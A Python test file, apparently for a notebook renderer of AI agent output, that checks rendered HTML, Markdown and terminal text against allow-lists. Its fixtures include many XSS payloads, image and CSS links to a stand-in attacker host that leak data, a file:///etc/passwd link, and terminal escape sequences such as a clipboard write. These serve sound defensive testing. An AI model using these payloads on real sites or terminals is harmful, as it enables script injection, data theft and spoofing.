"""Facts of the design's list, 34 and 39: nothing of a model's text runs or loads anything, and no terminal obeys it.

What is shown is parsed as browsers and converters do, and every element, attribute and address in it must be on a list.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import mistune
import nbformat
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.exporters import HTMLExporter, MarkdownExporter
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from openclaw_nb.errors import ModelError
from openclaw_nb.events import End, State, Status, Step
from openclaw_nb.render import bundle, markdown, plain
from openclaw_nb.run import Result, Run

TAGS = frozenset(
    ("a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
     "img", "li", "ol", "p", "pre", "s", "span", "strong", "style", "summary", "table", "tbody", "td", "th", "thead",
     "tr", "ul")
)  # fmt: skip
ADDRESS = re.compile(r"(?:(?:https?|mailto):|(?![^/?#]*:))", re.IGNORECASE)
IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")
ATTRIBUTES = {
    "alt": re.compile(r".*", re.DOTALL),
    "class": re.compile(r"[A-Za-z0-9_+# -]*"),
    "data-columns": re.compile(r"[1-4]"),
    "data-long": re.compile(r"true"),
    "data-many": re.compile(r"true"),
    "data-status": re.compile(r"[a-z]+"),
    "data-tone": re.compile(r"[a-z]*"),
    "href": ADDRESS,
    "id": re.compile(r"[^\s]*"),
    "open": re.compile(r""),
    "rel": re.compile(r"noopener noreferrer"),
    "src": IMAGE,
    "start": re.compile(r"\d+"),
    "style": re.compile(r"text-align: ?(?:left|right|center);?"),
    "target": re.compile(r"_blank"),
}


class Finder(HTMLParser):
    """Notes whatever is not on the lists; with ``within`` only what stands inside a div of that class."""

    def __init__(self, within: str = "") -> None:
        super().__init__()
        self.found: list[object] = []
        self.seen = 0
        self._within = within
        self._depth = 0

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        classes = (dict(attributes).get("class") or "").split()
        if self._within and not self._depth:
            self._depth += self._within in classes
            return
        self._depth += tag == "div"
        self.seen += 1
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attributes:
            rule = ATTRIBUTES.get(name)
            matches = rule and (rule.match if rule is ADDRESS else rule.fullmatch)(value or "")
            if not matches:
                self.found.append((tag, name, value))

    def handle_endtag(self, tag: str) -> None:
        self._depth -= tag == "div" and self._depth > 0

    def _note(self, data: str) -> None:
        if self._depth or not self._within:
            self.found.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = _note


def forbidden(html: str, within: str = "") -> list[object]:
    finder = Finder(within)
    finder.feed(html)
    finder.close()
    assert finder.seen or not within
    return finder.found


def permissive() -> MarkdownIt:
    """A parser that lets everything through that it understands."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return parser


PERMISSIVE = permissive()
MISTUNE = mistune.create_markdown(escape=False, plugins=["strikethrough", "table", "url"])


def nbconvert(text: str) -> str:
    """nbconvert's own Markdown, without the links to themselves it gives headings."""
    return re.sub(r'<a class="anchor-link" href="#[^"]*">¶</a>', "", markdown2html_mistune(text))


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><style>@import 'http://evil.example/x.css'</style>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php x ?><!DOCTYPE x>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](&#106;avascript:alert(1)) [x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>) [x](\x01javascript:alert(1)) [x](vbscript:x) [x](data:text/html,<script>x</script>)",
    "[x](file:///etc/passwd) <javascript:alert(1)> <data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](http://evil.example/p.png?secret) ![x](//evil.example/p.png) ![x](p.png) ![x](file:///p.png)",
    "![x][r] ![r][] ![r]\n\n[r]: http://evil.example/p.png",
    "![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](data:text/html,x) ![x](blob:x) ![x](javascript:x)",
    "[![x](http://evil.example/p.png)](http://evil.example)",
    '[x](http://a.example "\\" onmouseover=alert(1)") ![x](data:image/png;base64,AA== "\\" onerror=alert(1)")',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\nx = 1\n\n![x](http://evil.example/p.png)\n\n<img src=x onerror=alert(1)>\n```",
    "````\n```\n<script>alert(1)</script>\n````\n\n<script>alert(1)</script>",
    "> ```\n> <script>alert(1)</script>\n\n<script>alert(1)</script>",
    "- ```\n  <img src=x onerror=alert(1)>\n\n  ![x](http://evil.example/p.png)",
    "    <script>alert(1)</script>",
    "``` `<script>alert(1)</script>` ```",
    "|a|b|\n|-|-|\n|`\\|<img src=x onerror=alert(1)>`|`x\\\\|![x](http://evil.example/p.png)`|",
    '$"><img src=x onerror=alert(1)>$ $$<script>alert(1)</script>$$ \\(\\href{javascript:alert(1)}{x}\\)',
    "`$$`\n\n```\n$$\n<script>alert(1)</script>\n```",
    "`\\begin{x}`\n\n```\n\\end{x}\n<script>alert(1)</script>\n```",
    "$a \\\\[ b$\n\n```\n\\\\]\n<script>alert(1)</script>\n```",
    "`\\\\[`\n\n```\n\\\\]\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt; \\<script>alert(1)\\</script> \\\\<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script> <\u202escript>alert(1)</script> <\ud800script>",
]

PIECES = [
    *ATTACKS, "`", "``", "```", "```\n", "```python\n", "~~~\n", "\n", "\n\n", "    ", "- ", "1. ", "> ", "|",
    "|a|b|\n|-|-|\n", "<b", "<", "-->", "[", "]", "(", ")", "](", "![", "!", "&", "&#60;", "\\", "\\\\", "\\[", "\\\\(",
    "$", "$$", "$x$", "\\begin{cases}", "\\end{cases}", "{", "}", "*", "_", "~~", "# ", "===\n", "---\n", "a", " ",
    "http://a.example/", "www.a.example", "@@0@@", '"', ":", "\x1b[", "\0", "\ud800",
]  # fmt: skip

hostile = st.one_of(
    st.lists(st.sampled_from(PIECES), max_size=25).map("".join),
    st.text(st.characters(codec=None), max_size=200),
    st.text(st.sampled_from("<>!/`~[](){}$\\*_#|-&;:'\"= \n\tabjs"), max_size=120),
)


def every_attack(test):  # type: ignore[no-untyped-def]
    for attack in ATTACKS:
        test = example(attack)(test)
    return test


@every_attack
@given(hostile)
def test_34_html_of_any_text_holds_only_what_is_listed(text: str) -> None:
    data = bundle(Result(text))
    assert forbidden(data["text/html"]) == []
    for form in data.values():
        form.encode()


@every_attack
@given(hostile)
def test_34_markdown_of_any_text_is_harmless_in_permissive_parsers(text: str) -> None:
    written = markdown(text)
    for render in (PERMISSIVE.render, MISTUNE, nbconvert):
        assert forbidden(str(render(written))) == []


@every_attack
@given(hostile)
def test_34_html_put_into_markdown_stays_html(text: str) -> None:
    """nbconvert's Markdown holds the HTML as it is: no blank line in it may let a parser back to Markdown."""
    assert forbidden(PERMISSIVE.render(f"# In\n\n{bundle(Result(text))['text/html']}\n")) == []


def test_34_jupyterlab_puts_math_back_into_finished_html() -> None:
    """Its Markdown takes `$…$` out and puts it back verbatim, quotes too, be it into the address of a bare link."""
    assert '"' not in "".join(
        re.findall(r"(?<!\\)\$.*?(?<!\\)\$", markdown('http://a.example/$"onmouseover=alert(1) x="$'))
    )
    assert '$"' not in markdown('[x](http://a.example/$"onload=x$)')


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("status", [Status.DONE, Status.STOPPED, Status.FAILED, Status.RECONNECTING, Status.WAITING])
def test_34_names_titles_and_errors_are_text(attack: str, status: Status) -> None:
    step = Step(attack, attack, 0, f"{attack}\n{attack}", 1, 0.1)
    facts = {
        "status": status,
        "model": attack,
        "session": attack,
        "words": attack,
        "run_id": attack,
        "snapshot": attack,
    }
    data = bundle(Result("x", steps=(step,), **facts), into=attack)
    assert forbidden(data["text/html"]) == []
    for render in (PERMISSIVE.render, MISTUNE, nbconvert):
        assert forbidden(str(render(data["text/markdown"]))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_34_a_run_in_flight_or_failed_is_text(attack: str) -> None:
    run = Run(attack, prompt=attack, session=attack, level=2, level_reason=attack, model=attack, agent=attack)
    run.push(Step(attack, attack, 0, attack))
    run.push(State(Status.STREAMING, attack))
    assert forbidden(bundle(run)["text/html"]) == []
    run.push(End(Status.FAILED, error=ModelError(attack), model=attack, snapshot=attack))
    assert forbidden(bundle(run)["text/html"]) == []


@pytest.mark.parametrize("only_markdown", [False, True])
def test_34_converted_notebooks_hold_only_what_is_listed(only_markdown: bool) -> None:
    outputs = []
    for attack in ATTACKS:
        data = bundle(Result(attack, status=Status.STOPPED, words=attack))
        if only_markdown:
            del data["text/html"]
        outputs.append(nbformat.v4.new_output("display_data", data=data))
    book = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("1", outputs=outputs)])
    html, _ = HTMLExporter().from_notebook_node(book)
    assert forbidden(html, "jp-RenderedMarkdown" if only_markdown else "ocnb") == []
    assert forbidden(PERMISSIVE.render(MarkdownExporter().from_notebook_node(book)[0])) == []


def test_34_a_remote_image_needs_a_click() -> None:
    data = bundle(Result("![a chart](https://evil.example/p.png?d=1)"))
    assert "<img" not in data["text/html"]
    assert 'href="https://evil.example/p.png?d=1"' in data["text/html"]
    assert "image from evil.example: a chart</a>" in data["text/html"]


def test_34_an_image_inside_the_text_stays_up_to_a_size() -> None:
    assert (
        '<img src="data:image/png;base64,AAAA" alt="x">'
        in bundle(Result("![x](data:image/png;base64,AAAA)"))["text/html"]
    )
    large = f"![x](data:image/png;base64,{'A' * 600_000})"
    assert "<img" not in bundle(Result(large))["text/html"]


@pytest.mark.parametrize(
    "text", ["$5 $x$ \\(a", "\\href{javascript:alert(1)}{x}", "\\begin{equation}", "$$", "\\ref{a}"]
)
def test_34_nothing_but_checked_math_is_typeset(text: str) -> None:
    """MathJax looks for its delimiters in single text nodes; those outside code and of class ocnb-math hold none."""
    html = bundle(Result(f"{text} `{text}`", words=text, status=Status.FAILED, steps=(Step("a", text, 0, text),)))[
        "text/html"
    ]
    html = re.sub(r"<style>.*?</style>|<code.*?</code>|<span class=\"ocnb-math\">.*?</span>", "", html, flags=re.S)
    for node in re.split(r"<[^>]*>", html):
        assert not re.search(r"\$.*\$|\\\(|\\\[|\\begin|\\(?:eq)?ref\b", node)


# -- 39 ------------------------------------------------------------------------------------------------

ESCAPES = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\", "\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "safe\rEVIL", "abc\x08\x08\x08", "\x1bc", "\x07",
    "\x0e\x0f", "\x7f", "\u202egnp.exe", "\u2066x\u2069", "\0", "\x85",
]  # fmt: skip
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.mark.parametrize("escape", ESCAPES)
def test_39_terminal_escapes_are_neutralised(escape: str) -> None:
    assert not OBEYED.search(plain(escape))
    result = Result(escape, model=escape, words=escape, status=Status.STOPPED, steps=(Step("a", escape, 0, escape),))
    for form in bundle(result).values():
        assert not OBEYED.search(form)


@given(st.text(st.characters(codec=None)), st.integers(min_value=0))
def test_39_also_when_a_sequence_comes_in_two_pieces(text: str, cut: int) -> None:
    cut %= len(text) + 1
    pieces = plain(text[:cut]) + plain(text[cut:])
    assert not OBEYED.search(pieces)
    if not re.search("[\ud800-\udfff]", text):
        assert pieces == plain(text)


def test_39_what_is_no_control_stays() -> None:
    assert plain("a\n\tb 👩‍👩‍👧 \u200eאבג") == "a\n\tb 👩‍👩‍👧 \u200eאבג"
